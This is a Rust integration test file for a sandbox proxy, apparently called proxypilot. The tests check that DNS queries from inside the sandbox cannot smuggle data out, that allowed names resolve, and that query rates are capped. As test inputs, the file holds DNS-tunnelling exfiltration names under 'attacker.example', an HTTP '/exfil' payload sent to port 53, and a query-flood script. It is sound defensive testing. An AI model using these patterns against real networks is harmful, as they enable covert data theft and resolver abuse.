//! DNS answered by proxypilot (issue 16): from inside a real sandbox, every
//! way of asking a DNS question, to any address, reaches proxypilot's
//! resolver and nothing else. The stub DNS on `--dns` (203.0.113.53) stands
//! for the upstream resolver and logs every name it is asked; sinks on
//! 203.0.113.54:53 stand for any other server.

use std::{
    io::Read,
    net::TcpListener,
    process::Stdio,
    sync::{Arc, Mutex},
};

use proxypilot_tests::{
    shapes::{FlyShape, Tokenizer},
    upstream::{self, Api, FakeInternet, HostSpec, RealKeys, ANTHROPIC, DNS_IP},
    *,
};
use serde_json::Value;

const PY: &str = "/usr/bin/python3";
/// A server the sandbox may think it asks; sinks listen there.
const OTHER_DNS: &str = "203.0.113.54";
/// An `--allow` (pass-through) host.
const PASS_HOST: &str = "passthrough.test";
/// NXDOMAIN, the resolver's answer for a name the sandbox may not reach.
const NXDOMAIN: u64 = 3;

fn world() -> FakeInternet {
    let mut hosts = upstream::standard_hosts();
    hosts.push(HostSpec::new(
        PASS_HOST,
        Api::Generic,
        &["203.0.113.14:443", "[2001:db8::14]:443"],
    ));
    FakeInternet::start_with(RealKeys::default(), hosts, &["203.0.113.54/32"])
}

fn shape(net: &FakeInternet, name: &str) -> FlyShape {
    FlyShape::start(
        net,
        name,
        Tokenizer::Embedded,
        &["--allow", PASS_HOST, "--allow-dns", "*.extra.test"],
    )
}

fn probe(net: &FakeInternet, fly: &FlyShape, args: &[&str]) -> Value {
    let out = fly
        .sandbox(net, PY)
        .arg(support_dir().join("dnsprobe.py"))
        .args(args)
        .command()
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    serde_json::from_str(text.trim())
        .unwrap_or_else(|e| panic!("{e}: {text} {}", String::from_utf8_lossy(&out.stderr)))
}

/// A TCP listener on `addr` that records whatever bytes reach it.
fn tcp_sink(addr: &str) -> Arc<Mutex<Vec<Vec<u8>>>> {
    let l = TcpListener::bind(addr).unwrap_or_else(|e| panic!("bind {addr}: {e}"));
    let got = Arc::new(Mutex::new(Vec::new()));
    let g = got.clone();
    std::thread::spawn(move || {
        for mut conn in l.incoming().flatten() {
            let mut buf = Vec::new();
            let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(2)));
            let _ = conn.read_to_end(&mut buf);
            g.lock().unwrap().push(buf);
        }
    });
    got
}

fn names_asked(net: &FakeInternet) -> Vec<String> {
    net.dns.queries().into_iter().map(|(n, _)| n).collect()
}

#[test]
fn data_carrying_names_reach_no_resolver_over_udp_connected_udp_tcp_or_getaddrinfo() {
    require_root!();
    let net = world();
    let other_udp = udp_sink(&format!("{OTHER_DNS}:53"));
    let other_tcp = tcp_sink(&format!("{OTHER_DNS}:53"));
    let fly = shape(&net, "dns-deny");
    // Each name carries "data" (a hex blob) under a domain nobody allowed.
    let cases: [(&str, &str, &str); 7] = [
        ("udp", DNS_IP, "6578666c.udp.attacker.example"),
        ("udp-connect", DNS_IP, "6578666c.connected.attacker.example"),
        ("tcp", DNS_IP, "6578666c.tcp.attacker.example"),
        ("udp", OTHER_DNS, "6578666c.other.attacker.example"),
        ("tcp", OTHER_DNS, "6578666c.othertcp.attacker.example"),
        ("udp", "2001:db8::53", "6578666c.udp6.attacker.example"),
        (
            "udp",
            "::ffff:203.0.113.54",
            "6578666c.mapped.attacker.example",
        ),
    ];
    for (kind, server, name) in cases {
        let v = probe(&net, &fly, &[kind, server, name]);
        // First: the fake resolver was not asked (it too would answer
        // NXDOMAIN, from the address asked, for a name it does not know).
        let asked = names_asked(&net);
        assert!(
            !asked.iter().any(|n| n == name),
            "{kind} to {server}: the upstream resolver was asked {name}: {asked:?}"
        );
        assert_eq!(v["rcode"], NXDOMAIN, "{kind} {server} {name}: {v}");
        assert_eq!(v["answers"], Value::Array(vec![]), "{v}");
        assert_eq!(v["id_ok"], true, "{v}");
        // The answer comes from the server the sandbox asked, port 53.
        assert_eq!(v["from"], server, "{kind} {name}: {v}");
        if kind != "tcp" {
            assert_eq!(v["from_port"], 53, "{kind} {name}: {v}");
        }
    }
    let v = probe(&net, &fly, &["gai", "6578666c.gai.attacker.example"]);
    assert_eq!(
        (&v["ok"], &v["error"]),
        (&Value::Bool(false), &Value::from("EAI_NONAME")),
        "{v}"
    );

    let asked = names_asked(&net);
    assert!(
        !asked.iter().any(|n| n.contains("attacker")),
        "the upstream resolver was asked {asked:?}"
    );
    assert!(
        other_udp.lock().unwrap().is_empty(),
        "another server got a datagram"
    );
    assert!(
        other_tcp.lock().unwrap().is_empty(),
        "another server got a connection"
    );

    // Audited one by one, with the process; refused names in /stats.
    let log = fly.log_with(&["6578666c.gai.attacker.example"]);
    let line = log
        .lines()
        .find(|l| l.contains("name=6578666c.tcp.attacker.example"))
        .unwrap_or_else(|| panic!("no audit line for the TCP query: {log}"));
    assert!(
        line.contains("decision=\"denied\"") || line.contains("decision=denied"),
        "{line}"
    );
    assert!(line.contains("python3") && line.contains("pid="), "{line}");
    let udp_line = log
        .lines()
        .find(|l| l.contains("name=6578666c.udp.attacker.example"))
        .unwrap();
    assert!(
        udp_line.contains("python3"),
        "UDP queries name their process: {udp_line}"
    );
    let stats = fly.stats(&net);
    let denied: Vec<&str> = stats["dns_denied_names"]
        .as_array()
        .unwrap_or_else(|| panic!("/stats has no dns_denied_names: {stats}"))
        .iter()
        .filter_map(Value::as_str)
        .collect();
    for (_, _, name) in cases {
        assert!(denied.contains(&name), "{name} not in {denied:?}");
    }
}

#[test]
fn non_dns_payloads_to_port_53_are_delivered_nowhere() {
    require_root!();
    let net = world();
    let other_udp = udp_sink(&format!("{OTHER_DNS}:53"));
    let other_tcp = tcp_sink(&format!("{OTHER_DNS}:53"));
    let fly = shape(&net, "dns-junk");
    let before = fly.stats(&net)["dns_malformed"].as_u64().unwrap();
    for server in [OTHER_DNS, DNS_IP, "2001:db8::53"] {
        for kind in ["junk-udp", "junk-tcp"] {
            let v = probe(
                &net,
                &fly,
                &[kind, server, "GET /exfil?d=6578666c HTTP/1.1\r\n\r\n"],
            );
            assert_eq!(v["reply"], Value::Null, "{kind} {server}: {v}");
        }
    }
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(
        other_udp.lock().unwrap().is_empty(),
        "{:?}",
        other_udp.lock().unwrap()
    );
    assert!(
        other_tcp.lock().unwrap().is_empty(),
        "another server got bytes"
    );
    let asked = names_asked(&net);
    assert!(asked.is_empty(), "the upstream resolver got {asked:?}");
    // Each datagram, and each TCP message, dropped and counted.
    let after = fly.stats(&net)["dns_malformed"].as_u64().unwrap();
    assert_eq!(after - before, 6, "malformed count");
}

#[test]
fn allowed_names_resolve_through_the_upstream_and_requests_succeed() {
    require_root!();
    let net = world();
    let fly = shape(&net, "dns-allow");
    // getaddrinfo of an intercepted host and of an --allow host: the
    // upstream's (the stub's) addresses.
    let v = probe(&net, &fly, &["gai", ANTHROPIC]);
    assert_eq!(v["ok"], true, "{v}");
    let addrs: Vec<&str> = v["addrs"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert!(
        addrs.contains(&"203.0.113.11") && addrs.contains(&"2001:db8::11"),
        "{v}"
    );
    let v = probe(&net, &fly, &["gai", PASS_HOST]);
    assert!(
        v["addrs"]
            .as_array()
            .unwrap()
            .contains(&Value::from("203.0.113.14")),
        "{v}"
    );
    // A, AAAA, v4 and v6, from the server asked.
    for (server, qtype, want) in [
        (DNS_IP, "A", "203.0.113.11"),
        ("2001:db8::53", "AAAA", "2001:db8::11"),
        (OTHER_DNS, "A", "203.0.113.11"),
    ] {
        for kind in ["udp", "udp-connect", "tcp"] {
            let v = probe(&net, &fly, &[kind, server, ANTHROPIC, qtype]);
            assert_eq!(v["rcode"], 0, "{kind} {server}: {v}");
            assert_eq!(
                v["answers"],
                serde_json::json!([want]),
                "{kind} {server}: {v}"
            );
            assert_eq!(v["from"], server, "{kind}: {v}");
        }
    }
    let asked = names_asked(&net);
    assert!(asked.iter().any(|n| n == ANTHROPIC), "{asked:?}");
    assert!(asked.iter().any(|n| n == PASS_HOST), "{asked:?}");
    // --allow-dns *.extra.test lets a name through without making it
    // reachable: the stub knows no such name, so the upstream's NXDOMAIN
    // comes back, after being asked.
    let v = probe(&net, &fly, &["udp", DNS_IP, "a.extra.test"]);
    assert_eq!(v["rcode"], NXDOMAIN, "{v}");
    assert!(names_asked(&net).iter().any(|n| n == "a.extra.test"));

    // End to end, by name, through the sandbox's resolv.conf: curl to the
    // intercepted host (key injected) and to the pass-through host.
    // (The pass-through host's certificate is the test CA's, which the
    // sandbox trusts only when told to.)
    let test_ca = net.apis.ca_pem_path().to_string_lossy().into_owned();
    for (url, extra) in [
        (
            format!("https://{ANTHROPIC}/v1/messages"),
            vec![
                "-H",
                "x-api-key: dummy",
                "-H",
                "content-type: application/json",
                "-d",
                r#"{"model":"m","max_tokens":8,"messages":[{"role":"user","content":"hi"}]}"#,
            ],
        ),
        (
            format!("https://{PASS_HOST}/echo"),
            vec!["--cacert", &test_ca],
        ),
    ] {
        let out = fly
            .sandbox(&net, "curl")
            .args([
                "-sS",
                "--max-time",
                "20",
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
            ])
            .args(&extra)
            .arg(&url)
            .command()
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let code = String::from_utf8_lossy(&out.stdout).into_owned();
        assert!(
            out.status.success() && code.starts_with('2'),
            "{url}: {code} {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let log = fly.log_with(&["name=passthrough.test"]);
    let line = log
        .lines()
        .find(|l| l.contains("name=api.anthropic.com") && l.contains("answered"))
        .unwrap_or_else(|| panic!("no audit line: {log}"));
    assert!(line.contains("answers=1"), "{line}");
}

#[test]
fn the_query_rate_is_capped_with_refused() {
    require_root!();
    let net = world();
    let fly = shape(&net, "dns-rate");
    // 400 queries at once over one socket: about the burst (200, plus what
    // refills meanwhile) is answered, the rest REFUSED without an upstream
    // query. (A few datagrams may be lost on loopback under the flood.)
    let out = fly
        .sandbox(&net, PY)
        .args(["-c", RATE_SCRIPT, "400", DNS_IP])
        .command()
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let v: Value = serde_json::from_str(text.trim())
        .unwrap_or_else(|e| panic!("{e}: {text} {}", String::from_utf8_lossy(&out.stderr)));
    let refused = v["5"].as_u64().unwrap_or(0);
    let nx = v["3"].as_u64().unwrap_or(0);
    assert!((150..=300).contains(&nx) && refused >= 50, "{v}");
    let stats = fly.stats(&net);
    assert!(
        stats["dns_rate_limited"].as_u64().unwrap() >= refused,
        "{stats}"
    );
}

/// Sends N queries for denied names on one UDP socket, then counts the
/// answers' rcodes: {"3": n, "5": n}.
const RATE_SCRIPT: &str = r#"
import json, socket, struct, sys
n, server = int(sys.argv[1]), sys.argv[2]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
s.settimeout(3)
for i in range(n):
    q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0)
    for label in ("q%d" % i, "rate", "example"):
        q += bytes([len(label)]) + label.encode()
    s.sendto(q + b"\0\0\1\0\1", (server, 53))
counts = {}
try:
    for _ in range(n):
        d, _ = s.recvfrom(4096)
        k = str(struct.unpack(">H", d[2:4])[0] & 0xF)
        counts[k] = counts.get(k, 0) + 1
except socket.timeout:
    pass
print(json.dumps(counts))
"#;

/// Pass-through dials what the sandbox's DNS said (issue 16, item 3): the
/// sidecar's own resolv.conf (the stub on 203.0.113.53) says
/// passthrough.test is at .14, the `--dns` server the sandbox's DNS is
/// answered from says .24, and the connection goes to .24.
#[test]
fn pass_through_dials_the_address_the_sandboxs_dns_gave() {
    require_root!();
    const ALT_HOST: &str = "alt.test";
    const ALT_DNS: &str = "203.0.113.55";
    let mut hosts = upstream::standard_hosts();
    hosts.push(HostSpec::new(
        PASS_HOST,
        Api::Generic,
        &["203.0.113.14:443"],
    ));
    hosts.push(HostSpec::new(ALT_HOST, Api::Generic, &["203.0.113.24:443"]));
    let net = FakeInternet::start_with(RealKeys::default(), hosts, &["203.0.113.55/32"]);
    let _alt_dns = proxypilot_tests::dns::StubDns::start(
        format!("{ALT_DNS}:53").parse().unwrap(),
        [(PASS_HOST.to_string(), vec!["203.0.113.24".parse().unwrap()])].into(),
    );
    let fly = FlyShape::start(
        &net,
        "dns-passthrough",
        Tokenizer::Embedded,
        &["--allow", PASS_HOST, "--dns", ALT_DNS],
    );
    // -k: the fake's own certificate, which the sandbox does not trust;
    // only where the bytes went matters here.
    let out = fly
        .sandbox(&net, "curl")
        .args([
            "-sSk",
            "--max-time",
            "10",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
        ])
        .arg(format!("https://{PASS_HOST}/echo"))
        .command()
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "200",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        (
            net.apis.requests_to(ALT_HOST).len(),
            net.apis.requests_to(PASS_HOST).len()
        ),
        (1, 0),
        "the pass-through dialled the host resolver's address, not the sandbox's"
    );
}
